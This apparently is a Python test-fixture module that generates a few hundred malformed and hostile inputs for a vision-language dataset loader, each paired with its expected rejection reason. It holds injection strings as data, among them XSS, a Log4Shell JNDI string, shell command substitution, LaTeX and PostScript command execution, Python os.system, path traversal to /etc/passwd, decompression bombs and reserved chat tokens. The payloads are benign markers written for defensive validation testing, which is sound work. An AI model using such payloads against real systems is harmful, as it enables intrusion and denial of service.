"""Some three hundred inputs that somebody's data set will hold one day, and what becomes of
each: the reason it is rejected for, or None if it can be used."""

import io
import json
import struct
import tarfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import numpy as np
from PIL import Image

from support.samples import encode_image

SIZE = (60, 40)
# Markup of terminals, rich, HTML, LaTeX, spreadsheets and templates; patterns that take a matcher long.
NASTY = (
    "[/x] [red] [link=http://e]y[/link]",
    "\x1b[31m\x1b]0;title\x07\x1b[2J \x9b2J \r \x08",
    "<script>alert(1)</script> <img src=x onerror=alert(1)> | **b** `c`",
    "$\\frac{$ \\input{/etc/passwd} \\write18{touch pwned} \\binom{1000000000}{500000000}",
    '=HYPERLINK("http://e") +1+1 @SUM(1)',
    "{{ 7 * 7 }} {% for x in y %} ${jndi:ldap://e} $(touch pwned) `touch pwned`",
    "\u202eevil\u2069 \0 \u2028 %s%n {0.__class__}",
    "(a+)+$ ((a*)*)*b (?P<x>) [ * \\",
    "<think></think><answer>x</answer> <box>[1,1,2,2]</box>",
    "__import__('os').system('touch pwned')",
)
GOOD = {"question": "What color is it?", "answer": "red", "boxes": [[5, 5, 40, 30]]}
IMAGE = ("image: truncated", "image: broken", "image: not an image")


@dataclass(frozen=True)
class Hostile:
    """files by suffix; `reasons` are those allowed, () for an input that can be used; key goes on
    behind the number that it is given."""

    name: str
    files: dict[str, bytes]
    reasons: tuple[str, ...]
    key: str = ""

    def key_at(self, index: int) -> str:
        return f"{index:04d}{self.key}"


def hostile_inputs() -> list[Hostile]:
    found = []
    for make in (
        _cut_images, _no_images, _bombs, _odd_images, _fields, _jsons, _boxes, _questions, _texts, _keys,
    ):  # fmt: skip
        for name, files, reasons, *key in make():
            given = (reasons,) if isinstance(reasons, str) else tuple(reasons)
            found.append(Hostile(f"{name} #{len(found)}", files, given, *key))
    return found


def write_tar(path: Path, entries: list[Hostile]) -> str:
    """Keys are 0000, 0001, …; a JSON with an id is given the key as its id."""
    with tarfile.open(path, "w") as tar:
        for index, entry in enumerate(entries):
            for suffix, data in entry.files.items():
                info = tarfile.TarInfo(f"{entry.key_at(index)}.{suffix}")
                info.pax_headers = {"path": info.name} if "\0" in info.name else {}
                data = data.replace(b'"ID"', f'"{index:04d}"'.encode()) if suffix == "json" else data
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
    return str(path)


def fields(**changed) -> bytes:
    return json.dumps({"id": "ID", **GOOD, **changed}).encode()


def picture(size: tuple[int, int] = SIZE, mode: str = "RGB") -> Image.Image:
    noise = np.random.default_rng(0).integers(0, 255, (*size[::-1], 3), dtype=np.uint8)
    return Image.fromarray(noise).convert(mode)


def usable() -> Hostile:
    return Hostile("good", _with(encode_image(picture())), ())


def _with(image: bytes, suffix: str = "jpg", **changed) -> dict[str, bytes]:
    return {"json": fields(**changed), suffix: image}


def _cut_images() -> Iterator[tuple]:
    for kind in ("JPEG", "PNG", "WEBP", "GIF", "TIFF", "BMP"):
        data = encode_image(picture(), kind)
        for tenth in range(1, 10):
            exact = "image: truncated" if kind in ("JPEG", "PNG") and tenth > 4 else IMAGE
            yield f"{kind} cut at {tenth}/10", _with(data[: len(data) * tenth // 10]), exact


def _no_images() -> Iterator[tuple]:
    yield "no bytes", _with(b""), "image: empty"
    rng = np.random.default_rng(1)
    for length in (1, 2, 10, 100, 5000):
        yield f"{length} random bytes", _with(rng.bytes(length)), "image: not an image"
    for text in (b"<svg xmlns='http://www.w3.org/2000/svg'/>", b"<!DOCTYPE html><html>403</html>"):
        yield text.decode()[:8], _with(text), "image: not an image"
    postscript = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%touch pwned) (w) file\n"
    yield "a program", _with(postscript), "image: not an image"
    for size in ((0, 40), (60, 0), (0, 0)):
        yield f"PNG of {size}", _with(_png(*size)), IMAGE
    jpeg = bytearray(encode_image(picture()))
    for start in range(160, 620, 40):
        broken = jpeg[:start] + bytes(30) + jpeg[start + 30 :]
        yield f"zeros at {start}", _with(bytes(broken)), (*IMAGE, "")


def _bombs() -> Iterator[tuple]:
    for side in (11_586, 20_000, 65_535, 2_000_000):
        yield f"PNG of {side}", _with(_png(side, side)), "image: too large"
    for width, height in ((65_535, 65_535), (40_000, 20_000)):
        gif = b"GIF89a" + struct.pack("<HH", width, height) + bytes(3)
        gif += b"," + struct.pack("<HHHH", 0, 0, width, height) + b"\x80" + bytes(6) + b"\x02\x02D\x01\0;"
        yield f"GIF of {width} x {height}", _with(gif), "image: too large"
        jpeg = bytearray(encode_image(picture()))
        place = jpeg.index(b"\xff\xc0") + 5
        jpeg[place : place + 4] = struct.pack(">HH", height, width)
        yield f"JPEG of {width} x {height}", _with(bytes(jpeg)), "image: too large"
        bmp = bytearray(encode_image(picture(), "BMP"))
        bmp[18:26] = struct.pack("<ii", width, height)
        yield f"BMP of {width} x {height}", _with(bytes(bmp)), "image: too large"


def _odd_images() -> Iterator[tuple]:
    for orientation in range(1, 10):
        exif = Image.Exif()
        exif[0x0112] = orientation
        yield f"EXIF {orientation}", _with(encode_image(picture((60, 60)), exif=exif)), ()
    for mode, kind in (("CMYK", "JPEG"), ("L", "JPEG"), ("1", "PNG"), ("P", "PNG"), ("P", "GIF")):
        yield f"{mode} {kind}", _with(encode_image(picture(mode=mode), kind)), ()
    for mode, kind in (("RGBA", "PNG"), ("RGBA", "WEBP"), ("LA", "PNG"), ("CMYK", "TIFF"), ("YCbCr", "TIFF")):
        yield f"{mode} {kind}", _with(encode_image(picture(mode=mode), kind)), ()
    grey = np.arange(2400, dtype=np.uint16).reshape(40, 60) * 27
    for kind in ("PNG", "TIFF"):
        yield f"16-bit {kind}", _with(encode_image(Image.fromarray(grey), kind)), ()
    for mode in ("I", "F"):
        yield f"{mode} TIFF", _with(encode_image(picture(mode="L").convert(mode), "TIFF")), "image: 32-bit"
    for kind in ("GIF", "WEBP", "PNG", "TIFF", "MPO"):
        several = {"save_all": True, "append_images": [picture().rotate(180)] * 2}
        yield f"animated {kind}", _with(encode_image(picture(), kind, **several)), ()
    for size in ((1, 1), (2, 3), (190, 1)):
        yield f"tiny {size}", _with(encode_image(picture(size), "PNG"), boxes=[[0, 0, *size]]), ()
    for size in ((300, 1), (1, 300), (2, 900)):
        narrow = _with(encode_image(picture(size), "PNG"), boxes=[[0, 0, *size]])
        yield f"narrow {size}", narrow, "image: refused by the processor"


def _fields() -> Iterator[tuple]:
    image = encode_image(picture())
    for name in ("id", "question", "answer"):
        for value in (None, "", "  \n\t"):
            yield f"{name} {value!r}", _with(image, **{name: value}), f"{name}: empty"
        for value in (5, 1.5, True, ["x"], {"a": 1}, "\ud800", "a\udfffb"):
            yield f"{name} {value!r}", _with(image, **{name: value}), f"{name}: malformed"
    for name in ("kind", "check"):
        for value in ("", "Paired", None, 7, ["paired"], "x" * 10_000):
            yield f"{name} {str(value)[:9]}", _with(image, **{name: value}), f"{name}: unknown"
    for name in ("labels", "options", "reasoning", "source"):
        for value in (5, "\ud800", ["a", "b", "c"], {"a": 1}, True):
            yield f"{name} {value!r}", _with(image, **{name: value}), f"{name}: malformed"
    yield "no option", _with(image, check="choice", options={"A": "cat"}), "answer: not an option"
    yield "no boxes", _with(image, boxes=[]), "box: missing"
    yield "no image", {"json": fields()}, "image: missing"
    yield "two images", {**_with(image), "png": image}, "image: numbered twice"
    yield "no JSON", {"jpg": image}, "json: missing"


def _jsons() -> Iterator[tuple]:
    image = encode_image(picture())
    for raw in (b"", b"{", b'{"id": "\xe9"}', b"\xff\xfe{}", b"nan?", b"[" * 100_000, b'{"id":' * 50_000):
        yield f"JSON {raw[:8]}", {"json": raw, "jpg": image}, "json: invalid"
    yield (
        "a number too long",
        {"json": fields()[:-1] + b', "n": ' + b"9" * 5000 + b"}", "jpg": image},
        ("json: invalid"),
    )
    for raw in (b"[1]", b"null", b'"text"', b"5", b"NaN", b"true"):
        yield f"JSON {raw}", {"json": raw, "jpg": image}, "json: not an object"


def _boxes() -> Iterator[tuple]:
    image = encode_image(picture())
    for box in ([60, 0, 90, 40], [-30, 0, 0, 40], [0, 40, 60, 80], [0, -40, 60, 0], [1e6, 1e6, 2e6, 2e6]):
        yield f"wholly outside {box}", _with(image, boxes=[box]), "box: outside the image"
        yield f"one outside {box}", _with(image, boxes=[[1, 1, 9, 9], box]), "box: outside the image"
    for box in ([31, 0, 90, 40], [-31, 0, 30, 40], [0, 21, 60, 80], [-999, -999, 999, 999]):
        yield f"mostly outside {box}", _with(image, boxes=[box]), "box: outside the image"
    for box in ([40, 5, 61, 30], [-1, -1, 20, 20], [0, 0, 60.4, 40.4], [30, 0, 90, 40]):
        yield f"sticks out {box}", _with(image, boxes=[box]), ()
    for boxes in (
        [[3, 2, 3, 4]],
        [[1, 4, 3, 2]],
        [[1, 2, 3]],
        [["1", "2", "3", "4"]],
        [None],
        5,
        "ab",
        {"a": 1},
    ):
        yield f"boxes {boxes}", _with(image, boxes=boxes), "box: malformed"
    for odd in (float("nan"), float("inf"), True, 10**400, None):
        yield f"boxes with {str(odd)[:9]}", _with(image, boxes=[[0, 0, 9, odd]]), "box: malformed"
    yield "a box twice", _with(image, boxes=[[5, 5, 40, 30]] * 2), ()


def _questions() -> Iterator[tuple]:
    image = encode_image(picture())
    for text in ("What? " * 1700, "a" * 10_000, "红" * 10_000, "\U0001f600" * 10_000, "\0" * 9_999 + "?"):
        yield f"{len(text)} characters", _with(image, question=text), ("prompt: too long", "")
    yield "a megabyte", _with(image, question="What is it? " * 90_000), "prompt: too long"
    for token in ("<|image_pad|>", "<|video_pad|>", "<|im_end|>", "<|endoftext|>"):
        yield token, _with(image, question=f"What {token} is it?"), "question: holds a reserved token"
    for text in ("{{ 7 * 7 }} {% for %}", "\0", "</think><answer>red</answer>", "\u202ehsalf", "%s%n{}"):
        yield f"question {text!r}", _with(image, question=text), ()


def _texts() -> Iterator[tuple]:
    image = encode_image(picture())
    for text in NASTY:
        said = {"reasoning": {"grounded": text, "textual": text}, "source": text, "labels": [text]}
        yield f"all texts {text!r}", _with(image, id=f"ID {text}", question=text, answer=text, **said), ()
        chosen = {"check": "choice", "options": {"A": text, "B": "a cat"}, "answer": "A"}
        yield f"option {text!r}", _with(image, **chosen), ()
    yield "the file of passwords", _with(image, id="../../../../etc/passwd"), ()
    deep = b"[" * 900 + b"]" * 900
    for name in ("id", "question", "answer"):
        spoilt = fields()[:-1] + b', "%s": %s}' % (name.encode(), deep)
        yield f"a deep {name}", {"json": spoilt, "jpg": image}, f"{name}: malformed"
    for name in ("boxes", "labels", "options", "reasoning", "source", "kind", "check"):
        spoilt = fields()[:-1] + b', "%s": %s}' % (name.encode(), deep)
        reason = {"boxes": "box: malformed", "kind": "kind: unknown", "check": "check: unknown"}
        yield f"deep {name}", {"json": spoilt, "jpg": image}, reason.get(name, f"{name}: malformed")
    for kind in ("zTXt", "iCCP"):
        yield (
            f"a PNG whose {kind} unpacks to 200 MB",
            _with(_png_with(kind.encode(), 2 * 10**8)),
            (*IMAGE, ""),
        )


def _keys() -> Iterator[tuple]:
    files = _with(encode_image(picture()))
    for key in ("7" * 5000, " \0 ", "\x1b[31m", "\udc80", "[/x]", "=1+1", "\u202e", "\n"):
        yield f"key {key[:9]!r}", files, (), key
    misnumbered = {"json": files["json"], "9" * 5000 + ".jpg": files["jpg"]}
    yield "an image numbered in 5000 digits", misnumbered, "image: misnumbered"
    for suffix in ("\0.jpg", "-1.jpg", "²" + ".jpg", "1e3.jpg"):
        yield f"an image numbered {suffix!r}", {"json": files["json"], suffix: files["jpg"]}, "image: missing"


def _png_with(kind: bytes, size: int) -> bytes:
    """A picture whose chunk of text or colours unpacks to `size` bytes."""
    data, packer = encode_image(picture(), "PNG"), zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(10**6)) for _ in range(size // 10**6)) + packer.flush()
    body = kind + b"a\0\0" + packed
    chunk = struct.pack(">I", len(body) - 4) + body + struct.pack(">I", zlib.crc32(body))
    return data[:33] + chunk + data[33:]


def _png(width: int, height: int) -> bytes:
    """A header, and hardly anything behind it."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = chunk(b"IDAT", zlib.compress(bytes(1000)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + body + chunk(b"IEND", b"")


HOSTILE = hostile_inputs()
